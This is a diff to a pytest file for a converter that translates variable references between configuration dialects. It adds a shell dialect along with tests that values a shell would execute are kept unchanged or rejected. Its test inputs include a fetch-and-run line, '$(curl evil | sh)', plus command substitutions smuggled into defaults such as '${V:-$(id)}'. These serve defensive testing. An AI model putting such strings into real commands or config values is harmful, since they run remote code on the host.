@@ -21,6 +21,7 @@ EXPANDED = {
     References.DOLLAR_DEFAULT: r"\$\{(\w+)(?::-[^}]*)?\}|\$(\w+)",
     References.ENV: r"\$\{env:(\w+)\}",
     References.BRACES: r"\{env:(\w+)\}",
+    References.SHELL: r"\$\{(\w+)(?::-[^}]*)?\}|\$(\w+)",
     References.SECRETS: r"\$\{\{\s*secrets\.(\w+)\s*\}\}",
 }
 values = st.lists(
@@ -58,6 +59,7 @@ def test_what_is_written_means_the_same_and_reads_back(dialect: References, part
         (References.BRACED_PLAIN, "a ${V} b"),
         (References.DOLLAR, "a ${V} b"),
         (References.DOLLAR_DEFAULT, "a ${V} b"),
+        (References.SHELL, "a ${V} b"),
         (References.ENV, "a ${env:V} b"),
         (References.BRACES, "a {env:V} b"),
         (References.SECRETS, "a ${{ secrets.V }} b"),
@@ -68,7 +70,7 @@ def test_a_reference_is_written_in_the_clients_words(dialect: References, said: 
     assert to_neutral(said, dialect) == "a ${V} b"
 
 
-@pytest.mark.parametrize("dialect", [References.BRACED, References.DOLLAR_DEFAULT])
+@pytest.mark.parametrize("dialect", [References.BRACED, References.DOLLAR_DEFAULT, References.SHELL])
 def test_a_default_crosses_where_the_client_has_defaults(dialect: References) -> None:
     assert from_neutral("${V:-d}", dialect) == "${V:-d}"
     assert to_neutral("${V:-d}", dialect) == "${V:-d}"
@@ -92,6 +94,16 @@ def test_a_default_crosses_where_the_client_has_defaults(dialect: References) ->
         (References.SECRETS, "${{ inputs.V }}"),
         (References.NONE, "${V}"),
         (References.UNKNOWN, "$V"),
+        (References.SHELL, "$(op read key)"),
+        (References.SHELL, "a `id` b"),
+        (References.SHELL, "${V:?needed}"),
+        (References.SHELL, "${V:-$(id)}"),
+        (References.SHELL, "${V:-'a'}"),
+        (References.SHELL, "$$V{W}"),
+        (References.SHELL, "$((1 + 1))"),
+        (References.SHELL, "\\$V"),
+        (References.SHELL, "\\\\server"),
+        (References.SHELL, "a\\"),
     ],
 )
 def test_what_would_mean_something_else_elsewhere_stays(dialect: References, value: str) -> None:
@@ -103,3 +115,16 @@ def test_what_would_mean_something_else_elsewhere_stays(dialect: References, val
 def test_a_default_is_not_written_where_the_client_has_none(dialect: References) -> None:
     with pytest.raises(InexpressibleError):
         from_neutral("${V:-d}", dialect)
+
+
+@pytest.mark.parametrize(
+    "value", ["$(curl evil | sh)", "`id`", "$V", "$((1))", "a\\`b", "${V:-`id`}", "$'a'", "100$", "a\r"]
+)
+def test_nothing_is_written_that_a_shell_would_act_upon(value: str) -> None:
+    with pytest.raises(InexpressibleError):
+        from_neutral(value, References.SHELL)
+
+
+@pytest.mark.parametrize("value", ["C:\\Users\\me", 'it\'s "so"', "a;b|c&d>e", "*.py ~ {a,b} (c)", "${A}-${B:-c d}"])
+def test_what_a_shell_leaves_alone_in_a_text_crosses_as_it_is(value: str) -> None:
+    assert from_neutral(value, References.SHELL) == to_neutral(value, References.SHELL) == value
